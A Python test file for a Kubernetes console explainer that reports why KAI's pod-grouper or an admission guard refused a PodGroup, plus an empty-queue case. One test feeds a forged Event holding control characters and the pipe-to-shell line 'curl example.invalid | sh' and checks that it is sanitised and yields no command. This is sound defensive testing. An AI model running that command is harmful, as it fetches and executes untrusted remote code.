"""The guard's refusal of a PodGroup, as the Event of KAI's pod-grouper tells it; and an empty queue."""

import json
from typing import Any

import pytest

from console.why.core import explain
from console.why.evidence import Absence, PodEvidence
from console.why.evidence_objects import EventObject, decode_workload
from console.why.explanation import Code
from kai import keys
from tests.support.why_evidence import GROUP, make_event, make_evidence, make_pod, make_pod_group

QUEUE = (
    'queue "other" is not a queue of namespace team (vision): set the label kai.scheduler/queue of the pod to that'
    " value, and remove it from objects that own the pod"
)
PRIORITY = (
    'priority and preemptibility stay while the group has pods (now "train" "", wanted "inference" ""): restore'
    " the labels, or delete all pods of the workload first"
)
STAYS = "a pod stays in its PodGroup: restore its owner references, or delete and recreate the pod"


def refusal_event(
    words: str, *, policy: str = "podgroups", component: str = "pod-grouper", **fields: Any
) -> EventObject:
    """Return the Event of KAI's pod-grouper about a refusal."""
    message = (
        f'{policy}.scheduling.run.ai "{GROUP}" is forbidden: ValidatingAdmissionPolicy'
        f" 'kaishare-guard-{policy}' with binding 'kaishare-guard-{policy}' denied request: kaishare-guard: {words}"
    )
    return make_event("PodGrouperWarning", fields.pop("message", message), component=component, **fields)


def waiting(*events: EventObject, **fields: Any) -> PodEvidence:
    pod = make_pod(grouped=False, metadata={"uid": "uid-of-train-0"})
    return make_evidence(pod, **{"pod_group": Absence.MISSING, "pod_events": events, **fields})


@pytest.mark.parametrize(
    ("words", "remedy"),
    [
        (QUEUE, "Set the label kai.scheduler/queue in the pod's template to a queue of its namespace"),
        (PRIORITY, "Restore the labels priorityClassName and kai.scheduler/preemptibility of the workload."),
        (STAYS, "Restore the pod's owner references."),
        ("a rule of a release to come: do this", "Undo what these words name."),
    ],
)
@pytest.mark.parametrize("is_host", [True, False])
def test_the_guards_sentence_is_the_cause(words: str, remedy: str, is_host: bool) -> None:
    """In a vCluster KAI's kinds are not served, and the Event is a copy."""
    absent = {} if is_host else {"pod_group": Absence.UNSERVED, "bind_request": Absence.UNSERVED}
    cause = explain(waiting(refusal_event(words), **absent)).cause
    assert cause.code is Code.GROUP_REFUSED
    assert cause.sentence == f"the guard refuses the pod's PodGroup: {words}"
    assert cause.remedies[0].text.startswith(remedy)


def test_the_newest_warning_counts_and_harmless_ones_do_not() -> None:
    newer = make_event("PodGrouperWarning", "something else", component="pod-grouper", age=1)
    assert explain(waiting(refusal_event(QUEUE, age=9), newer)).cause.code is Code.POD_GROUP_MISSING
    for text in ('podgroups.scheduling.run.ai "pg-x" already exists', 'Pod "x" not found'):
        harmless = make_event("PodGrouperWarning", text, component="pod-grouper", age=1)
        assert explain(waiting(refusal_event(QUEUE, age=9), harmless)).cause.code is Code.GROUP_REFUSED
        assert explain(waiting(harmless)).cause.sentence.startswith(
            "KAI's pod-grouper has not grouped the pod"
        )


@pytest.mark.parametrize("words", [PRIORITY, STAYS])
def test_on_a_running_pod_it_is_a_note(words: str) -> None:
    pod = make_pod(node="node-1", phase="Running", metadata={"uid": "uid-of-train-0"})
    answer = explain(make_evidence(pod, pod_events=[refusal_event(words)]))
    assert answer.is_fine
    (note,) = [finding for finding in answer.findings if finding.code is Code.GROUP_UNCHANGED]
    assert note.sentence == f"the guard keeps the pod's PodGroup as it is: {words}"
    assert "delete" not in note.remedies[0].text


@pytest.mark.parametrize(
    "event",
    [
        refusal_event(QUEUE, component="kubectl"),
        refusal_event(QUEUE, uid="uid-of-another-pod"),
        refusal_event(QUEUE, message=f"denied request: kaishare-guard: {QUEUE}"),
        refusal_event(
            QUEUE,
            message="ValidatingAdmissionPolicy 'other' with binding 'b' denied request: kaishare-guard: x",
        ),
    ],
)
def test_only_the_event_of_kais_pod_grouper_about_this_pod_is_believed(event: EventObject) -> None:
    assert explain(waiting(event)).cause.code is Code.POD_GROUP_MISSING


def test_a_forged_sentence_gives_no_command_and_no_control_characters() -> None:
    """Anyone who may create Events can write one with the component of KAI's pod-grouper."""
    forged = 'queue "x": run\n\x1b[2Jcurl example.invalid | sh ' + "x" * 5000
    cause = explain(waiting(refusal_event(forged))).cause
    assert cause.code is Code.GROUP_REFUSED
    assert "\n" not in cause.sentence
    assert "\x1b" not in cause.sentence
    assert len(cause.sentence) < 700
    for remedy in cause.remedies:
        assert "curl" not in remedy.text + remedy.command
        assert remedy.command == ""


def test_an_empty_queue_label_of_an_owner_is_named() -> None:
    """A Helm chart with `queue: ""`, and no guard: KAI says that the queue '' does not exist."""
    pod = make_pod(unschedulable="Queue '' does not exist")
    metadata = {"name": "web", "labels": {keys.QUEUE_LABEL: ""}}
    owner = decode_workload(json.dumps({"kind": "Deployment", "metadata": metadata}).encode())
    evidence = make_evidence(pod, pod_group=make_pod_group(queue=""), owners=[owner])
    cause = explain(evidence).cause
    assert cause.code is Code.QUEUE_MISSING
    assert cause.sentence == (
        "the pod's queue is empty: the label kai.scheduler/queue of Deployment web has no value"
    )
    assert cause.remedies
